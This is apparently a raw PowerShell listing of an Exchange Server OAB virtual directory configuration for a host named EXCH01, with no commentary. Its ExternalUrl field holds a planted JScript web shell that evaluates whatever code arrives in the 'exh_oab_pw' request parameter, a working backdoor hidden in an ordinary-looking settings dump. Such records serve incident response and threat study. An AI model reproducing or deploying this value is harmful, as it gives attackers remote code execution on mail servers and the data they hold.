Name                            : OAB (Default Web Site)
PollInterval                    : 480
OfflineAddressBooks             :
RequireSSL                      : False
BasicAuthentication             : False
WindowsAuthentication           : True
OAuthAuthentication             : True
MetabasePath                    : IIS://EXCH01.corp.example/W3SVC/1/ROOT/OAB
Path                            : C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB
ExtendedProtectionTokenChecking : None
ExtendedProtectionFlags         : {}
ExtendedProtectionSPNList       : {}
AdminDisplayVersion             : Version 15.1 (Build 2176.2)
Server                          : EXCH01
InternalUrl                     : https://exch01.corp.example/OAB
InternalAuthenticationMethods   : {WindowsIntegrated}
ExternalUrl                     : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["exh_oab_pw"],"unsafe");}</script>
ExternalAuthenticationMethods   : {WindowsIntegrated}
AdminDisplayName                :
ExchangeVersion                 : 0.10 (14.0.100.0)
DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Example,CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=corp,DC=example
Identity                        : EXCH01\OAB (Default Web Site)
Guid                            : 6f1c2b0e-3d44-4a8e-9b1a-0c5e7d2f9a31
ObjectCategory                  : corp.example/Configuration/Schema/ms-Exch-OAB-Virtual-Directory
ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}
WhenChanged                     : 3/3/2021 4:41:22 AM
WhenCreated                     : 6/14/2019 10:12:05 AM
OriginatingServer               : DC01.corp.example
IsValid                         : True
